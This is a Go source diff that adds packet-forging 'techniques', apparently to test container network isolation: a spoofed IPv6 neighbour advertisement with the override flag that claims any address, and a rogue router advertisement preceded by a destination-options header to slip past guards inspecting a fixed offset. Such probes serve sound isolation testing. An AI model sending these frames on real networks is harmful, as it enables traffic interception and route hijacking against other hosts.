@@ -4,6 +4,7 @@ import (
 	"encoding/binary"
 	"net"
 	"net/netip"
+	"strings"
 	"time"
 
 	"golang.org/x/sys/unix"
@@ -32,6 +33,20 @@ func init() {
 	// forge-router is a router advertisement that offers a default route.
 	techniques["forge-router"] = func([]string) error {
 		return sendFrame(advertisement)
+	}
+	// forge-nd:ADDRESS is a neighbour advertisement, which says to all that the
+	// address is this container's.
+	techniques["forge-nd"] = func(args []string) error {
+		of, err := netip.ParseAddr(strings.Join(args, ":"))
+		if err != nil {
+			return err
+		}
+		return sendFrame(func(mac net.HardwareAddr) []byte { return neighbour(mac, of) })
+	}
+	// forge-router-options is forge-router with a header of options before it,
+	// for guards that look at a fixed place.
+	techniques["forge-router-options"] = func([]string) error {
+		return sendFrame(func(mac net.HardwareAddr) []byte { return toAll(mac, routerAdvertisement(mac), true) })
 	}
 	// forge-udp:FROM:TO:PORT is a datagram from another's address.
 	techniques["forge-udp"] = func(args []string) error {
@@ -105,16 +120,36 @@ func datagram(mac net.HardwareAddr, from, to netip.Addr, port uint16) []byte {
 	return append(append(ether(everybody, mac, unix.ETH_P_IP), packet...), 0, 9, 0, 0, 'x')
 }
 
-// advertisement is one of RFC 4861, to all nodes, from the interface's own
-// link-local address.
-func advertisement(mac net.HardwareAddr) []byte {
+// advertisement is a router's.
+func advertisement(mac net.HardwareAddr) []byte { return toAll(mac, routerAdvertisement(mac), false) }
+
+// routerAdvertisement offers a default route. Source: RFC 4861, section 4.2.
+func routerAdvertisement(mac net.HardwareAddr) []byte {
+	message := []byte{134, 0, 0, 0, 64, 0, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0}
+	return append(append(message, 1, 1), mac...) // source link-layer address
+}
+
+// neighbour is a neighbour's advertisement that overrides what is known. Source:
+// RFC 4861, section 4.4.
+func neighbour(mac net.HardwareAddr, of netip.Addr) []byte {
+	const override = 0x20
+	message := append([]byte{136, 0, 0, 0, override, 0, 0, 0}, of.AsSlice()...)
+	return toAll(mac, append(append(message, 2, 1), mac...), false) // target link-layer address
+}
+
+// toAll is an ICMPv6 message to all nodes, from the interface's own link-local
+// address, with a header of destination options before it or without.
+func toAll(mac net.HardwareAddr, message []byte, options bool) []byte {
 	from := []byte{0xfe, 0x80, 0, 0, 0, 0, 0, 0, mac[0] ^ 2, mac[1], mac[2], 0xff, 0xfe, mac[3], mac[4], mac[5]}
 	to := []byte{0: 0xff, 1: 2, 15: 1}
-	message := []byte{134, 0, 0, 0, 64, 0, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0}
-	message = append(append(message, 1, 1), mac...) // source link-layer address
 	pseudo := append(append(append([]byte{}, from...), to...), 0, 0, 0, byte(len(message)), 0, 0, 0, unix.IPPROTO_ICMPV6)
 	binary.BigEndian.PutUint16(message[2:], checksum(append(pseudo, message...)))
-	packet := append([]byte{0x60, 0, 0, 0, 0, byte(len(message)), unix.IPPROTO_ICMPV6, 255}, from...)
+	next := byte(unix.IPPROTO_ICMPV6)
+	if options {
+		message = append([]byte{next, 0, 1, 4, 0, 0, 0, 0}, message...) // padding only
+		next = unix.IPPROTO_DSTOPTS
+	}
+	packet := append([]byte{0x60, 0, 0, 0, 0, byte(len(message)), next, 255}, from...)
 	packet = append(append(packet, to...), message...)
 	return append(ether(net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}, mac, unix.ETH_P_IPV6), packet...)
 }
